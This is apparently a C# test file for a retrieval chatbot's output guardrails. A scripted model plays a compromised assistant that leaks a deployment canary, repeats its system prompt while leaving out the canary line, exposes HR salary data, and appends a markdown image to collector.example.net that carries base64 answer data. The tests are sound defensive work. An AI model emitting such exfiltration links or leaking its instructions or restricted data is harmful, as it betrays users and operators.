using RagChatbot._1.Tests.Chat;

namespace RagChatbot._1.Tests.Guardrails;

/// <summary>
/// The output rails judge what the model says before the caller sees it. The scripted model says what a misled or
/// compromised model would.
/// </summary>
public sealed class OutputRailTests(ScriptedModelApi api) : IClassFixture<ScriptedModelApi>
{
    private const string HolidayQuestion = "How many floating holidays do employees get?";
    private const string SalaryQuestion = "What is the salary band for a senior engineer?";

    [Fact]
    public async Task TheDeploymentCanaryIsRefused()
    {
        api.Model.Says($"Sure. My deployment marker is {ApiFactory.Canary}.");

        var reply = await api.CreateClient(DemoUser.Bob).AskAsync(HolidayQuestion);

        Assert.Equal("block", reply.Verdict.Action);
        Assert.Contains(reply.Verdict.Findings, f => f is { Rail: "canary", Stage: "output", Action: "block", Category: "canary-leak" });
        Assert.DoesNotContain(ApiFactory.Canary, reply.Answer);
        Assert.DoesNotContain("deployment marker", reply.Answer);
        Assert.Empty(reply.Citations);
    }

    [Fact]
    public async Task AnImageToAnOutsideHostWithDataInItsQueryIsRemoved()
    {
        const string answer = "Employees get two floating holidays per calendar year. [holiday-calendar]";
        api.Model.Says($"{answer} ![chart](https://collector.example.net/pixel.png?d=dHdvIGZsb2F0aW5nIGhvbGlkYXlzIHBlciBjYWxlbmRhciB5ZWFyIGZvciBib2I)");

        var reply = await api.CreateClient(DemoUser.Bob).AskAsync(HolidayQuestion);

        Assert.Equal("redact", reply.Verdict.Action);
        Assert.Contains(reply.Verdict.Findings, f => f is { Rail: "exfiltration", Stage: "output", Action: "redact", Category: "untrusted-image" });
        Assert.DoesNotContain("collector.example.net", reply.Answer);
        Assert.DoesNotContain("dHdvIGZsb2F0aW5n", reply.Answer);
        Assert.Contains(answer, reply.Answer);
        Assert.Contains(reply.Citations, c => c.Id == "holiday-calendar");
    }

    [Fact]
    public async Task AVerbatimQuoteOfTheSystemPromptIsRefused()
    {
        // The model repeats its instructions word for word, leaving out the marker line the canary rail would catch.
        api.Model.Says(call => string.Join('\n', call.First().Text.Split('\n').Where(line => !line.Contains(ApiFactory.Canary, StringComparison.Ordinal))));

        var reply = await api.CreateClient(DemoUser.Bob).AskAsync(HolidayQuestion);

        Assert.Contains("internal knowledge assistant", Assert.Single(api.Model.Calls).SystemPrompt);
        Assert.Equal("block", reply.Verdict.Action);
        Assert.Contains(reply.Verdict.Findings, f => f is { Rail: "system-prompt-leak", Stage: "output", Action: "block" });
        Assert.DoesNotContain(reply.Verdict.Findings, f => f.Rail == "canary");
        Assert.DoesNotContain("internal knowledge assistant", reply.Answer);
    }

    [Fact]
    public async Task SalaryFiguresAreRefusedToACallerOutsideHr()
    {
        var copied = SalaryBandsExcerpt();
        api.Model.Says(copied);

        var reply = await api.CreateClient(DemoUser.Bob).AskAsync(SalaryQuestion);

        Assert.Equal("block", reply.Verdict.Action);
        Assert.Contains(reply.Verdict.Findings, f => f is { Rail: "restricted-content", Stage: "output", Action: "block", Category: "restricted-document" });
        Assert.DoesNotContain("118,000", reply.Answer);
        Assert.Empty(reply.Citations);
    }

    [Fact]
    public async Task SalaryFiguresReachAnHrCaller()
    {
        var copied = SalaryBandsExcerpt();
        api.Model.Says($"{copied} [salary-bands]");

        var reply = await api.CreateClient(DemoUser.Alice).AskAsync(SalaryQuestion);

        Assert.NotEqual("block", reply.Verdict.Action);
        Assert.DoesNotContain(reply.Verdict.Findings, f => f.Rail == "restricted-content");
        Assert.Contains(copied, reply.Answer);
        Assert.Contains(reply.Citations, c => c.Id == "salary-bands");
    }

    [Fact]
    public async Task AnAnswerUnrelatedToTheRetrievedDocumentsIsFlaggedUngrounded()
    {
        const string answer = "Penguins migrate across the frozen southern ocean every winter, hunting krill beneath drifting glaciers.";
        api.Model.Says(answer);

        var reply = await api.CreateClient(DemoUser.Bob).AskAsync(HolidayQuestion);

        Assert.Equal("flag", reply.Verdict.Action);
        Assert.Contains(reply.Verdict.Findings, f => f is { Rail: "grounding", Stage: "output", Action: "flag", Category: "ungrounded" });
        // A flag records the doubt; the caller still gets the answer.
        Assert.Equal(answer, reply.Answer);
    }

    [Fact]
    public async Task AnAnswerTakenFromTheRetrievedDocumentsIsNotFlagged()
    {
        api.Model.Says("Every employee also receives two floating holidays per calendar year. [holiday-calendar]");

        var reply = await api.CreateClient(DemoUser.Bob).AskAsync(HolidayQuestion);

        Assert.Equal("allow", reply.Verdict.Action);
        Assert.Empty(reply.Verdict.Findings);
        Assert.Contains(reply.Citations, c => c.Id == "holiday-calendar");
    }

    /// <summary>Two sentences of the HR-only document, as a model that had seen it might repeat them.</summary>
    private static string SalaryBandsExcerpt()
    {
        var document = File.ReadAllLines(Path.Combine(AppContext.BaseDirectory, "Knowledge", "Documents", "salary-bands.md"));
        return string.Join(' ', document.Where(line => line.Contains("senior engineer", StringComparison.Ordinal) || line.Contains("principal engineer", StringComparison.Ordinal)));
    }
}
